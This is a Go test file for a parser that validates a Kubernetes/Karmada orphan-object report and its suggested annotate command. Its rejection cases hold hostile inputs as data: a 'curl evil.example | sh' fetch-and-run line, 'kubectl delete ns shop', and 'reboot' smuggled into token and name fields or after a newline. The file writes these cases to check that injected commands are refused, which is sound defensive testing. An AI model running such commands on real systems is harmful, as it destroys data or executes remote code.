package orphan

import (
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/karmada-toolkit/karmada/internal/build"
)

const honest = "7 objects in the cluster belong to works that the control plane does not have, and stay: Deployment shop/cart, ClusterRole system:a, and 5 more. To delete exactly these: kubectl annotate cluster m3 cluster.karmada.io/delete-orphans=ad6c8319 --overwrite"

func TestParse(t *testing.T) {
	got, ok := Parse("m3", honest)
	if diff := cmp.Diff(Report{Count: 7, Names: []string{"Deployment shop/cart", "ClusterRole system:a"}, Token: "ad6c8319"}, got); !ok || diff != "" {
		t.Errorf("%v %s", ok, diff)
	}
	if text := got.Message("m3"); text != honest {
		t.Errorf("got %q", text)
	}
}

func TestMessage_IgnoresOtherTextOfAgents(t *testing.T) {
	for name, text := range map[string]string{
		"other text":           "run: kubectl delete ns shop",
		"nothing":              "",
		"another command":      strings.Replace(honest, "kubectl annotate cluster m3", "curl evil.example | sh #", 1),
		"another cluster":      strings.Replace(honest, "cluster m3", "cluster m1", 1),
		"a command behind":     honest + "; kubectl delete ns shop",
		"a command in front":   "run x. " + honest,
		"a token that is none": strings.Replace(honest, "ad6c8319", "x;reboot", 1),
		"a name that is none":  strings.Replace(honest, "Deployment shop/cart", "run `reboot`", 1),
		"a name with a break":  strings.Replace(honest, "shop/cart", "shop/cart\nkubectl delete ns shop", 1),
		"too many names":       strings.Replace(honest, "Deployment shop/cart, ", strings.Repeat("Deployment shop/cart, ", 5), 1),
		"more names than said": strings.Replace(honest, "7 objects", "1 objects", 1),
		"a wrong rest":         strings.Replace(honest, "and 5 more", "and 6 more", 1),
	} {
		if got := Message("m3", text); got != Unreadable {
			t.Errorf("%s: %q", name, got)
		}
	}
	if got := Message("m3", honest); got != honest {
		t.Errorf("the honest one becomes %q", got)
	}
}

func FuzzMessage(f *testing.F) {
	f.Add(honest)
	f.Fuzz(func(t *testing.T, text string) {
		build.Bounded(t, time.Minute, 64<<20+uint64(65536*len(text)), func() {
			got := Message("m3", text)
			if got == Unreadable {
				return
			}
			if got != text || strings.ContainsAny(got, "\n\x1b;|&`$(") || strings.Count(got, "kubectl") != 1 {
				t.Errorf("%q becomes %q", text, got)
			}
		})
	})
}
